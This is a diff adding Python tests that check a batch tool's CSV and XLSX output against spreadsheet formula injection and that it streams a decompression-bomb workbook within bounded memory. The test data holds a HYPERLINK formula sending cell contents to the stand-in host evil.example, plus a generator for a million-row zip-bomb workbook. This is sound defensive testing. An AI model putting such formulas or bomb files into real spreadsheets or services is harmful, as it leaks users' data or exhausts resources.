@@ -4,6 +4,7 @@ from __future__ import annotations
 import csv
 import json
 import shutil
+import tracemalloc
 from decimal import Decimal
 
 import orjson
@@ -15,6 +16,7 @@ from engine.testing import generate_submissions
 from tools.cli import main
 from tools.rows import flatten, read_rows, unflatten
 
+from tests.bombs import SHEET_HEAD, workbook_bomb
 from tests.support import ROOT
 
 REF = "green-factory@2026.1"
@@ -205,3 +207,44 @@ def test_a_sector_that_is_not_a_text_is_refused_not_a_crash(tmp_path, raws, run)
     assert {3, 4} <= refused
     code, _, err = run("impact", "--from", REF, "--to", "green-factory-js@2026.1", source, "--quiet")
     assert "internal error" not in err and code in (0, 1)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_batch_output_is_safe_to_open(tmp_path, raws, run):
+    """Names that a spreadsheet would evaluate are written as text: an apostrophe first in CSV, a string cell in
+    XLSX; numbers and numeric texts are written as before."""
+    rows = [{**raw, "enterprise": {**raw["enterprise"], "name": name}} for raw, name in zip(raws[20:], FORMULAS)]
+    write_jsonl(tmp_path / "in.jsonl", rows)
+    assert run("batch", "--policy", REF, tmp_path / "in.jsonl", "-o", tmp_path / "out.csv")[0] == 0
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
+        table = list(csv.DictReader(handle))
+    assert [r["name"] for r in table] == ["'" + name for name in FORMULAS]
+    assert [r["row"] for r in table] == [str(n) for n in range(1, 7)]
+    assert all(Decimal(r["score"]) >= 0 and not r["score"].startswith("'") for r in table)
+    assert run("batch", "--policy", REF, tmp_path / "in.jsonl", "-o", tmp_path / "out.xlsx")[0] == 0
+    book = load_workbook(tmp_path / "out.xlsx")
+    head = [c.value for c in book.active[1]]
+    names = [row[head.index("name")] for row in book.active.iter_rows(min_row=2)]
+    # an XML parser reads a carriage return as a line feed: the text is kept otherwise
+    assert [(c.data_type, c.value) for c in names] == [("s", name.replace("\r", "\n")) for name in FORMULAS]
+    numbers = [row[head.index("row")] for row in book.active.iter_rows(min_row=2)]
+    assert [(c.data_type, c.value) for c in numbers] == [("n", n) for n in range(1, 7)]
+    scores = [row[head.index("score")].value for row in book.active.iter_rows(min_row=2)]
+    assert scores == [r["score"] for r in table]  # the same decimal text as in the CSV
+
+
+def test_batch_streams_a_workbook_that_unzips_to_millions_of_rows(tmp_path, run):
+    """The batch takes files of any length from the operator: memory is bounded by reading a row at a time, not by a
+    row limit. A million blank rows (6 MB of sheet in a small file) cost little; openpyxl took 150 MiB."""
+    (tmp_path / "in.xlsx").write_bytes(workbook_bomb("xl/worksheets/sheet1.xml", SHEET_HEAD, b"<row/>",
+                                                     b"</sheetData></worksheet>", 1_000_000))
+    tracemalloc.start()
+    try:
+        code, _, err = run("batch", "--policy", REF, tmp_path / "in.xlsx", "-o", tmp_path / "out.csv", "--workers", 1, "-q")
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert (code, "0 rows" in err) == (0, True)
+    assert peak < 100 * 1024 * 1024, f"{peak / 1024 / 1024:.0f} MiB"
